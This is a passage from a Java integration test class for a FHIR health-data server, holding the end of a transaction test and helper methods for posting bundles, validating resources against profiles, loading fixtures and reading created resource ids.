				  {"resource": {"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}]},
				   "request": {"method": "POST", "url": "Patient"}}
				]}""".formatted(TEST_SYSTEM, marker);
		byte[] body = ("\uFEFF" + transaction).getBytes(StandardCharsets.UTF_8);

		Response stored = fhir.post("/fhir", body, FhirHttp.FHIR_JSON);

		assertThat(stored.status()).as(stored.body()).isEqualTo(200);
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).hasSize(1);
	}

	// ---- helpers ----

	/**
	 * Posts a big Bundle with a 15-minute timeout instead of FhirHttp's 2 minutes: this test proves the transaction
	 * completes on whatever machine runs it (six builds share two cores here); its duration on a quiet machine is
	 * a benchmark figure (bench/platform-results.md), not an assertion.
	 */
	Response postSlowly(Bundle bundle) {
		try {
			java.net.http.HttpResponse<String> response = java.net.http.HttpClient.newHttpClient().send(
					java.net.http.HttpRequest.newBuilder(java.net.URI.create(fhir.base() + "/fhir"))
							.timeout(java.time.Duration.ofMinutes(15))
							.header("Content-Type", FhirHttp.FHIR_JSON)
							.POST(java.net.http.HttpRequest.BodyPublishers.ofString(
									FhirHttp.FHIR.newJsonParser().encodeResourceToString(bundle)))
							.build(),
					java.net.http.HttpResponse.BodyHandlers.ofString());
			return new Response(response.statusCode(), response.headers(), response.body());
		} catch (IOException e) {
			throw new UncheckedIOException(e);
		} catch (InterruptedException e) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(e);
		}
	}

	/** $validate on the type, the resource in a Parameters body, with a profile in the body and/or on the URL. */
	Response validate(String type, String resourceJson, String bodyProfile, String urlProfile) {
		String parameters = "{\"resourceType\": \"Parameters\", \"parameter\": [{\"name\": \"resource\", \"resource\": "
				+ resourceJson + "}" + (bodyProfile == null ? "" : ", {\"name\": \"profile\", \"valueUri\": \"" + bodyProfile + "\"}")
				+ "]}";
		String query = urlProfile == null ? "" : "?profile=" + URLEncoder.encode(urlProfile, StandardCharsets.UTF_8);
		return fhir.post("/fhir/" + type + "/$validate" + query, parameters, FhirHttp.FHIR_JSON);
	}

	static List<String> errors(OperationOutcome outcome) {
		return outcome.getIssue().stream()
				.filter(issue -> issue.getSeverity() == IssueSeverity.ERROR || issue.getSeverity() == IssueSeverity.FATAL)
				.map(issue -> issue.getExpression().stream().map(e -> e.getValue()).toList() + " " + issue.getDiagnostics())
				.toList();
	}

	static String fixture(String file, String patientId) {
		try {
			return Files.readString(Path.of(FIXTURES + file)).replace("REPLACED-BY-TEST", patientId);
		} catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	private String newPatient() {
		return created(fhir.postResource("/fhir/Patient", newPatientResource()));
	}

	private static Patient newPatientResource() {
		Patient patient = new Patient();
		patient.addName().setFamily("Intake").addGiven("Test");
		return patient;
	}

	/** The id of a resource the response says was created. */
	private static String created(Response created) {
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		return created.header("Location").replaceAll("/_history/.*$", "").replaceAll("^.*/", "");
	}

	/** The ids a search finds now: {@code no-cache}, so HAPI does not answer from the same search run earlier. */
	private List<String> ids(String search) {
		Response found = fhir.get(search, "Cache-Control", "no-cache");
		assertThat(found.status()).as(found.body()).isEqualTo(200);
		return found.as(Bundle.class).getEntry().stream().map(e -> e.getResource().getIdElement().getIdPart()).toList();
	}

	private static String location(Response created) {
		return created.header("Location").replaceAll("^https?://[^/]+", "").replaceAll("/_history/.*$", "");
	}
}
